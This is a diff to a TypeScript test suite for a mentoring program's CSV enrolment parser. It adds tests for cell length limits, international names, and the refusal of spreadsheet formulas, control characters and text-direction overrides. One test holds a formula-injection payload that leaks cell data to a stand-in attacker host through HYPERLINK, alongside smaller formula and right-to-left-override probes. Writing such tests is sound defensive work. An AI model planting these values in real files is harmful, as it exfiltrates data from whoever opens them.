@@ -30,7 +30,10 @@ const pair = (n: number, change: Row = {}): Row => ({
   ...change,
 });
 
-const csv = (rows: Row[], eol = '\n'): string => [HEADER, ...rows.map((row) => ENROLMENT_COLUMNS.map((c) => row[c] ?? '').join(','))].join(eol) + eol;
+/** A cell as a spreadsheet writes it: quoted when it holds a comma, a quote or a line end. */
+const cellOf = (value: string): string => (/[",\r\n]|^\s/.test(value) ? `"${value.replace(/"/g, '""')}"` : value);
+
+const csv = (rows: Row[], eol = '\n'): string => [HEADER, ...rows.map((row) => ENROLMENT_COLUMNS.map((c) => cellOf(row[c] ?? '')).join(','))].join(eol) + eol;
 
 /** The problems an EnrolmentError lists, or a failed test when the file is accepted. */
 const problemsOf = (text: string): string[] => {
@@ -235,5 +238,113 @@ describe('the shape of the file', () => {
     ]);
     expect(rows[2]!.mentee.email).toBe('mentee3@example.org');
     expect(rows[2]!.competencies).toEqual(['delegation', 'giving-feedback']);
+  });
+});
+
+describe('what a cell may hold: names a person would write, nothing that reads or runs otherwise', () => {
+  test('a name of 102,400 characters is refused by its length, and never echoed back', () => {
+    const problems = problemsOf(csv([pair(1), pair(2, { mentee_name: 'x'.repeat(102_400) })]));
+    expect(problems).toEqual(['row 3: mentee_name is 102,400 characters long; at most 100']);
+  });
+
+  test.each([
+    ['mentee_name', 100],
+    ['mentor_name', 100],
+    ['manager_name', 100],
+    ['coordinator_name', 100],
+    ['circle', 100],
+    ['competencies', 1_000],
+    ['time_zone', 64],
+    ['start_date', 32],
+  ] as const)('%s holds at most %i characters', (column, limit) => {
+    expect(problemsOf(csv([pair(1, { [column]: 'a'.repeat(limit + 1) })]))).toEqual([
+      `row 2: ${column} is ${(limit + 1).toLocaleString('en')} characters long; at most ${limit.toLocaleString('en')}`,
+    ]);
+  });
+
+  test('an e-mail address holds at most 254 characters, as SMTP carries', () => {
+    const longest = `${'m'.repeat(64)}@${'d'.repeat(63)}.${'e'.repeat(63)}.${'x'.repeat(57)}.org`;
+    expect(longest).toHaveLength(254);
+    expect(parseEnrolment(csv([pair(1, { mentee_email: longest })]), program, FILE)[0]!.mentee.email).toBe(longest);
+    expect(problemsOf(csv([pair(1, { mentee_email: `a${longest}` })]))).toEqual(['row 2: mentee_email is 255 characters long; at most 254']);
+  });
+
+  test('a name of exactly 100 characters, and names from around the world, are taken as written', () => {
+    const names = ['a'.repeat(100), 'Zoë Ødegård-Łukasiewicz', "Siobhán O'Brien", '李小龙', 'محمد بن سلمان', 'Anne-Marie @ Sales', 'Ngũgĩ wa Thiong’o 🌍'];
+    const rows = parseEnrolment(csv(names.map((name, i) => pair(i + 1, { mentee_name: name }))), program, FILE);
+    expect(rows.map((r) => r.mentee.name)).toEqual(names);
+  });
+
+  test('a name a spreadsheet would run as a formula is refused, showing only its start', () => {
+    expect(problemsOf(csv([pair(1), pair(2), pair(3, { mentor_name: '=HYPERLINK("http://attacker.example/?leak="&A1,"Click for details")' })]))).toEqual([
+      'row 4: mentor_name "=HYPERLINK("http://a…" starts with "=", which a spreadsheet would run as a formula; remove it',
+    ]);
+  });
+
+  test.each([
+    ['+1+1', '"+"'],
+    ['-2+3', '"-"'],
+    ['@SUM(A1:A9)', '"@"'],
+    ['  =1+1', '"="'],
+    ['\t=1+1', 'a tab'],
+    ['\r=1+1', 'a carriage return'],
+  ])('a name that starts with %j', (name, start) => {
+    const [problem, ...others] = problemsOf(csv([pair(1, { manager_name: name })]));
+    expect(others).toEqual([]);
+    // A line end inside a cell makes the row's number that of the line it ends on, as an editor counts.
+    expect(problem).toMatch(/^row \d: manager_name ".+" starts with /);
+    expect(problem).toContain(` starts with ${start}, which a spreadsheet would run as a formula; remove it`);
+  });
+
+  test('a circle whose name would run as a formula is refused too', () => {
+    expect(problemsOf(csv([pair(1, { circle: '@cmd' })]))).toEqual([
+      'row 2: circle "@cmd" starts with "@", which a spreadsheet would run as a formula; remove it',
+    ]);
+  });
+
+  test.each([
+    ['a bell', 'Eva\u0007', 'a control character (U+0007) at character 4'],
+    ['a NUL', 'Eva\u0000de Vries', 'a control character (U+0000) at character 4'],
+    ['a C1 control', 'Eva\u0085', 'a control character (U+0085) at character 4'],
+    ['a line break inside a quoted cell', 'Eva\nde Vries', 'a control character (U+000A) at character 4'],
+    ['a right-to-left override', 'Eva\u202Eexe.txt', 'a text-direction override (U+202E) at character 4'],
+    ['a first-strong isolate', '\u2068Eva', 'a text-direction override (U+2068) at character 1'],
+  ])('a name holding %s', (_, name, what) => {
+    const why = what.includes('direction') ? ', which makes it read otherwise than it is stored' : '';
+    // The line break ends the row on line 3; the row is named by the line it ends on.
+    expect(problemsOf(csv([pair(1, { manager_name: name })]))).toEqual([expect.stringMatching(/^row [23]: /)]);
+    expect(problemsOf(csv([pair(1, { manager_name: name })]))[0]!.replace(/^row \d: /, '')).toBe(`manager_name contains ${what}${why}; remove it`);
+  });
+
+  test('a refused cell is reported once, not again as empty, mismatched or malformed', () => {
+    const problems = problemsOf(csv([pair(1), pair(2, { coordinator_name: '=Ingrid', competencies: 'x'.repeat(5_000), time_zone: 'Europe/\u0000' })]));
+    expect(problems).toEqual([
+      'row 3: coordinator_name "=Ingrid" starts with "=", which a spreadsheet would run as a formula; remove it',
+      'row 3: competencies is 5,000 characters long; at most 1,000',
+      'row 3: time_zone contains a control character (U+0000) at character 8; remove it',
+    ]);
+  });
+
+  test('thousands of mistakes: the message lists the first ones and counts the rest', () => {
+    const rows = Array.from({ length: 5_000 }, (_, i) => pair(i + 1, { competencies: 'juggling' }));
+    let error: EnrolmentError | undefined;
+    try {
+      parseEnrolment(csv(rows), program, FILE);
+    } catch (e) {
+      error = e as EnrolmentError;
+    }
+    expect(error).toBeInstanceOf(EnrolmentError);
+    expect(error!.problems).toHaveLength(5_000);
+    expect(error!.message.length).toBeLessThanOrEqual(4_100);
+    expect(error!.message).toMatch(/^ {2}- row 2: competency "juggling"/m);
+    expect(error!.message).toMatch(/\n {2}… and 4,9\d\d more problems; fix these and check the file again$/);
+  });
+
+  test('a header of unknown columns names each in part, and a column named twice is refused', () => {
+    const header = `${HEADER},${'x'.repeat(10_000)}`;
+    expect(problemsOf(`${header}\n${csv([pair(1)]).split('\n')[1]},\n`)).toEqual([
+      `column ${'x'.repeat(40)}… is not known (known columns: ${ENROLMENT_COLUMNS.join(', ')})`,
+    ]);
+    expect(problemsOf(csv([pair(1)]).replace('circle', 'mentee_email'))).toEqual(['column mentee_email is there twice; keep one']);
   });
 });
